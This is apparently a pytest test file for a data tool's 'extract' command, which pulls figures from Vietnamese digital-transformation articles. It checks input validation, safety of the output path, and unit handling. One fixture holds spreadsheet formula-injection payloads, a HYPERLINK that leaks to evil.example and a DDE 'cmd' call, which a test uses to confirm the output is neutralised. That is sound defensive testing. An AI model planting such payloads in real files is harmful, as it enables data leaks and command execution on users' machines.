"""The second reliability probe's ``extract`` cases (E01–E16 of shared/reference/reliability-probe-2.md).

Each test reproduces a case on a copy of ``data/`` (or on a stand-in repository, for the folders
of the code) and checks what a person now sees: one line naming the file or ``--out`` and what
to do, exit status 2, and nothing written; or, for an article that is text, the candidates.
"""
from __future__ import annotations

import csv
import io
import random
import shutil
from pathlib import Path

import pandas as pd
import pytest

import dtlib.intake.extract
from dtlib.cli import main
from dtlib.data.errors import UsageError
from dtlib.intake.extract import ARTICLE_MAX_BYTES, CANDIDATE_COLUMNS, extract, extract_file, read_article, unsafe_out_reason
from dtlib.intake.ingest import add
from dtlib.data.io import read_table
from dtlib.pack.publish import REPO_ROOT

from .test_ingest import cp1258
from .test_probe import cli, snapshot

DATA = Path(__file__).resolve().parent.parent / "data"
LOCK = ".dtlib.lock"

#: An invented article (not real data) with a figure of each kind the probe used.
ARTICLE = ("Lai Châu sơ kết chuyển đổi số 6 tháng đầu năm 2023\n\nNgày 15/7/2023\n\n"
           "Tỷ lệ hộ gia đình có kết nối internet băng rộng cáp quang đạt 85%.\n"
           "Toàn tỉnh có 1.761 Tổ công nghệ số cộng đồng.\n"
           "Tỉnh đứng thứ 12/63 về chỉ số chuyển đổi số.\n")

SOURCE_HEADER = "id,title,publisher,published,url,file,language,note\n"


@pytest.fixture
def store(tmp_path) -> Path:
    """A copy of data/ with the invented article as sources/905_probe2.txt."""
    folder = Path(shutil.copytree(DATA, tmp_path / "data", ignore=shutil.ignore_patterns(LOCK, ".txn-*", ".*.tmp")))
    (folder / "sources" / "905_probe2.txt").write_text(ARTICLE, encoding="utf-8")
    return folder


def refused(capsys, store: Path, *args) -> str:
    """The one error line of ``extract *args --data store``; the store must be byte-identical."""
    before = snapshot(store)
    code, out, err = cli(capsys, "extract", *args, "--data", store)
    assert (code, out) == (2, ""), err
    assert snapshot(store) == before
    assert err.startswith("error: ") and err.count("\n") == 1, err
    return err


def cells(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


# ------------------------------------------------------------------------------------ the article

def test_E01_a_binary_file_is_refused_in_one_line_naming_what_it_is(store, tmp_path, capsys):
    png = tmp_path / "heatmap.png"
    png.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + random.Random(1).randbytes(2000))
    err = refused(capsys, store, png)
    assert f"{png}: is a PNG image, not text" in err and "save the article as plain text (UTF-8, .txt)" in err
    noise = tmp_path / "noise.txt"
    noise.write_bytes(random.Random(2).randbytes(4000))
    err = refused(capsys, store, noise)
    assert str(noise) in err and ("not text" in err or "is not valid" in err)
    assert "Traceback" not in err


def test_E02_E03_a_windows_1258_or_utf16_article_gives_the_candidates_of_its_utf8_text(store, tmp_path):
    utf8 = tmp_path / "utf8.txt"
    utf8.write_text(ARTICLE, encoding="utf-8")
    expected = extract_file(utf8, store)
    assert expected["value"].tolist() == ["85", "1761", "12"]
    for name, raw in [("cp1258.txt", cp1258(ARTICLE)), ("utf16.txt", ARTICLE.encode("utf-16"))]:
        path = tmp_path / name
        path.write_bytes(raw)
        assert raw != ARTICLE.encode("utf-8")
        pd.testing.assert_frame_equal(extract_file(path, store), expected)


def test_E04_an_article_over_2_mb_is_refused_at_once_in_one_line(store, tmp_path, capsys):
    big = tmp_path / "big20.txt"
    with open(big, "wb") as handle:   # 20 MB, sparse: refused from its size, never read
        handle.truncate(20 * 2 ** 20)
    err = refused(capsys, store, big, "--out", tmp_path / "c.csv")
    assert f"{big}: is 20.0 MB, more than the 2 MB an article (or a source text) may be" in err
    assert "save each article of it as a file of its own" in err
    assert not (tmp_path / "c.csv").exists()
    assert ARTICLE_MAX_BYTES == 2 * 2 ** 20
    just = tmp_path / "just.txt"
    just.write_bytes(ARTICLE.encode("utf-8").ljust(ARTICLE_MAX_BYTES, b" "))
    assert read_article(just).startswith("Lai Châu")   # at the cap: read


def test_E11_a_folder_or_a_device_is_not_a_regular_file(store, capsys):
    for path, what in [(Path("/dev/zero"), "a device, a pipe or a socket"), (store, "a folder")]:
        err = refused(capsys, store, path)
        assert f"{path}: is not a regular file ({what}): name the article's text file" in err
    assert "no such file" in refused(capsys, store, store / "nothing.txt")


def test_E12_E13_a_text_outside_the_repository_or_an_empty_one_gives_the_header_only(store, tmp_path, capsys):
    empty = tmp_path / "empty.txt"
    empty.write_bytes(b"")
    for path in (empty, Path("/etc/hostname")):
        if not path.is_file():
            continue
        code, out, err = cli(capsys, "extract", path, "--data", store)
        assert (code, err) == (0, "") and out.splitlines()[0].split(",") == CANDIDATE_COLUMNS


def test_E16_nul_and_control_bytes_in_an_article_still_give_its_candidates(store, tmp_path, capsys):
    article = tmp_path / "controls.txt"
    article.write_text(ARTICLE.replace("Toàn tỉnh", "\x00Toàn\x1b tỉnh"), encoding="utf-8")
    code, out, err = cli(capsys, "extract", article, "--data", store)
    assert code == 0 and [r["value"] for r in cells(out)] == ["85", "1761", "12"]


# ------------------------------------------------------------------------------------ --out

def test_E05_extract_out_refuses_the_stores_tables_and_leaves_them_byte_identical(store, capsys):
    article = store / "sources" / "905_probe2.txt"
    for table in ("observations.csv", "targets.csv", "sources.csv", "history.csv"):
        err = refused(capsys, store, article, "--out", store / table)
        assert f"--out {store / table}: is inside the data folder" in err and "candidates.csv in the current folder" in err
    assert "is the data folder" in refused(capsys, store, article, "--out", store)
    # the repository's own data/ is refused whatever --data is
    assert unsafe_out_reason(REPO_ROOT / "data" / "observations.csv", article, store).startswith(
        "is inside the repository's data/ folder")


def test_E06_extract_out_refuses_the_article_itself_however_it_is_spelled(store, tmp_path, capsys):
    article = store / "sources" / "905_probe2.txt"
    err = refused(capsys, store, article, "--out", article)
    assert f"--out {article}: is the article itself: the candidates would replace its text" in err
    outside = tmp_path / "article.txt"
    outside.write_text(ARTICLE, encoding="utf-8")
    (tmp_path / "link.txt").symlink_to(outside)
    for spelling in (outside, tmp_path / "sub" / ".." / "article.txt", tmp_path / "link.txt"):
        (tmp_path / "sub").mkdir(exist_ok=True)
        assert "is the article itself" in refused(capsys, store, outside, "--out", spelling)
        assert outside.read_text(encoding="utf-8") == ARTICLE


@pytest.fixture
def repo(tmp_path, monkeypatch) -> Path:
    """A stand-in for the repository (its dtlib/, notebooks/, tests/, .git/), so no test writes near the real one."""
    root = tmp_path / "repo"
    for name in ("dtlib/__init__.py", "notebooks/02_compare.ipynb", "tests/test_x.py", ".git/HEAD"):
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text("keep me\n", encoding="utf-8")
    monkeypatch.setattr(dtlib.intake.extract, "REPO_ROOT", root)
    return root


def test_E07_extract_out_refuses_the_code_the_notebooks_the_tests_and_git(store, repo, capsys):
    article = store / "sources" / "905_probe2.txt"
    before = snapshot(repo)
    for name, folder in [("dtlib/__init__.py", "dtlib"), ("notebooks/02_compare.ipynb", "notebooks"),
                         ("tests/new.py", "tests"), (".git/config", ".git"), ("dtlib", "dtlib")]:
        err = refused(capsys, store, article, "--out", repo / name)
        assert f"the repository's {folder}/ folder" in err, err
    assert snapshot(repo) == before


def test_E07_the_real_repositorys_code_notebooks_tests_and_git_are_refused(store):
    """Checked without writing anything: the reason only."""
    article = store / "sources" / "905_probe2.txt"
    for name in ("dtlib/__init__.py", "notebooks/02_compare.ipynb", "tests/conftest.py", ".git/HEAD", "dtlib"):
        reason = unsafe_out_reason(REPO_ROOT / name, article, store, force=True)
        assert reason.startswith(("is inside the repository's", "is the repository's")), reason


def test_E05_E06_E07_an_existing_file_needs_force_and_is_then_replaced_atomically(store, tmp_path, capsys):
    article = store / "sources" / "905_probe2.txt"
    out = tmp_path / "candidates.csv"
    out.write_text("reviewed,keep\nrow,x\n", encoding="utf-8")
    err = refused(capsys, store, article, "--out", out)
    assert f"--out {out}: exists: writing over it would lose the keep marks" in err and "--force" in err
    assert out.read_text(encoding="utf-8") == "reviewed,keep\nrow,x\n"
    code, printed, err = cli(capsys, "extract", article, "--data", store, "--out", out, "--force")
    assert code == 0 and "3 candidate row(s)" in printed
    assert [r["value"] for r in cells(out.read_text(encoding="utf-8"))] == ["85", "1761", "12"]
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")] == []


def test_E05_a_new_candidate_file_under_the_data_folders_imports_is_written(store, capsys):
    out = store / "imports" / "2026" / "905-probe2.candidates.csv"
    code, printed, err = cli(capsys, "extract", store / "sources" / "905_probe2.txt", "--data", store, "--out", out)
    assert (code, err) == (0, "") and out.is_file()
    assert "exists" in refused(capsys, store, store / "sources" / "905_probe2.txt", "--out", out)


def test_E14_out_an_existing_folder_names_the_folder_in_one_line(store, tmp_path, capsys):
    folder = tmp_path / "pack"
    folder.mkdir()
    err = refused(capsys, store, store / "sources" / "905_probe2.txt", "--out", folder)
    assert err == (f"error: --out {folder}: is a folder, not a file: name the candidate CSV to write, "
                   f"e.g. {folder / 'candidates.csv'}\n")
    assert list(folder.iterdir()) == []


# ------------------------------------------------------------------------------------ cells and units

FORMULAS = ("Lai Châu, ngày 15/7/2023\n\n"
            "- Tỷ lệ hộ gia đình có kết nối internet băng rộng cáp quang đạt 85%.\n"
            '=HYPERLINK("http://evil.example/?leak=1";"bấm vào đây") Toàn tỉnh có 1.761 Tổ công nghệ số cộng đồng.\n'
            "+cmd|' /C calc'!A0 Tỉnh đứng thứ 12/63 về chỉ số chuyển đổi số.\n"
            "@SUM(1+1) Tỷ lệ hồ sơ công việc tại cấp tỉnh được xử lý trên môi trường mạng đạt 98,7%.\n")


def test_E08_no_cell_of_the_candidate_file_is_a_live_formula(store, tmp_path, capsys):
    article = tmp_path / "formulas.txt"
    article.write_text(FORMULAS, encoding="utf-8")
    code, out, err = cli(capsys, "extract", article, "--data", store, "--source", "=cmd|x")
    rows = cells(out)
    assert code == 0 and len(rows) >= 4
    live = [c for r in rows for c in r.values() if c[:1] in ("=", "+", "-", "@", "\t", "\r")
            and not c.lstrip("+-").replace(".", "", 1).isdigit()]
    assert live == []
    quotes = [r["quote"] for r in rows]
    assert "'- Tỷ lệ hộ gia đình có kết nối internet băng rộng cáp quang đạt 85%." in quotes
    assert any(q.startswith("'=HYPERLINK(") for q in quotes) and any(q.startswith("'+cmd|") for q in quotes)
    assert any(q.startswith("'@SUM(") for q in quotes) and {r["source"] for r in rows} == {"'=cmd|x"}


@pytest.mark.heavy
def test_E08_extract_mark_keep_add_reads_a_protected_quote_back_to_the_verbatim_text(store, tmp_path, capsys):
    (store / "sources" / "906_formulas.txt").write_text(FORMULAS, encoding="utf-8")
    sources = tmp_path / "src.csv"
    sources.write_text(SOURCE_HEADER + "formula-test,Formula test (invented),probe2,2023-07-15,,"
                       "sources/906_formulas.txt,vi,invented\n", encoding="utf-8")
    candidates = tmp_path / "candidates.csv"
    assert main(["extract", str(store / "sources" / "906_formulas.txt"), "--data", str(store),
                 "--source", "formula-test", "--out", str(candidates)]) == 0
    frame = read_table(candidates)
    bullet = frame["quote"].str.startswith("'- ")
    hyperlink = frame["quote"].str.startswith("'=HYPERLINK") & (frame["value"] == "1761")
    assert bullet.sum() == 1 and hyperlink.sum() == 1
    # a quote starting with "=": read back verbatim, so the quote check finds it in the source text
    # (the number in it is then refused as formula text, by add's own rule, and nothing is written)
    marked = frame.drop(columns="_line").assign(keep=hyperlink.map({True: "x", False: ""}))
    marked.to_csv(tmp_path / "formula.csv", index=False)
    before = snapshot(store)
    with pytest.raises(Exception) as err:
        add(tmp_path / "formula.csv", store, sources_file=sources)
    assert snapshot(store) == before
    assert [p.field for p in err.value.problems if p.field == "quote"] == []
    # the bullet's quote starting with "-" goes in and is stored as the article writes it
    marked = frame.drop(columns="_line").assign(keep=bullet.map({True: "x", False: ""}))
    marked.to_csv(tmp_path / "bullet.csv", index=False)
    change = add(tmp_path / "bullet.csv", store, sources_file=sources)
    assert "added 1 observations row(s)" in change.summary()
    stored = pd.read_csv(store / "observations.csv", dtype=str, keep_default_na=False)
    assert stored.loc[stored["source"] == "formula-test", "quote"].tolist() == [
        "- Tỷ lệ hộ gia đình có kết nối internet băng rộng cáp quang đạt 85%."]


def test_E09_no_count_for_a_share_per_thousand_no_dti_rank_for_a_regional_rank_no_fractional_count(store):
    text = ("Lai Châu sơ kết chuyển đổi số 9 tháng năm 2023\n\nNgày 10/10/2023\n\n"
            "Tỷ lệ hộ gia đình có kết nối internet băng rộng cáp quang đạt 85‰.\n"
            "Lai Châu xếp thứ 5/14 tỉnh miền núi phía Bắc về chỉ số chuyển đổi số.\n"
            "Toàn tỉnh có 1,761 Tổ công nghệ số cộng đồng.\n"
            "Số thôn chưa có băng rộng cố định chiếm 85 ‰ tổng số thôn.\n")
    rows = extract(text, read_table(store / "units.csv"), read_table(store / "indicators.csv"))
    by_value = {v: r for v, r in zip(rows["value"], rows.to_dict("records"))}
    assert set(by_value) == {"85", "5", "1.761"}
    assert (rows["indicator"] == "").all(), rows[["value", "indicator"]]
    assert "is a share per thousand (‰), neither a percentage nor a count" in by_value["85"]["why"]
    assert "85‰ = 8.5%" in by_value["85"]["why"]
    assert "a rank out of 14 is not a province's national rank" in by_value["5"]["why"]
    assert by_value["5"]["rank_of"] == "14"
    assert "not a whole number, so not a count" in by_value["1.761"]["why"]
    # the national rank and a Vietnamese thousands dot still get their indicators
    usual = extract(ARTICLE, read_table(store / "units.csv"), read_table(store / "indicators.csv"))
    assert usual["indicator"].tolist() == ["households_fibre_pct", "community_digital_teams", "dti_rank"]


def test_E10_an_unknown_unit_is_refused_with_the_nearest_id_and_a_name_is_read_as_its_id(store, capsys):
    article = store / "sources" / "905_probe2.txt"
    err = refused(capsys, store, article, "--unit", "lao-kai")
    assert "--unit lao-kai: 'lao-kai' is not a known unit (did you mean 'lao-cai'?)" in err
    code, out, err = cli(capsys, "extract", article, "--data", store, "--unit", "Lai Châu")
    assert code == 0 and {r["unit"] for r in cells(out)} == {"lai-chau"}
    with pytest.raises(UsageError, match="lao-kai"):
        extract(ARTICLE, read_table(store / "units.csv"), read_table(store / "indicators.csv"), unit="lao-kai")
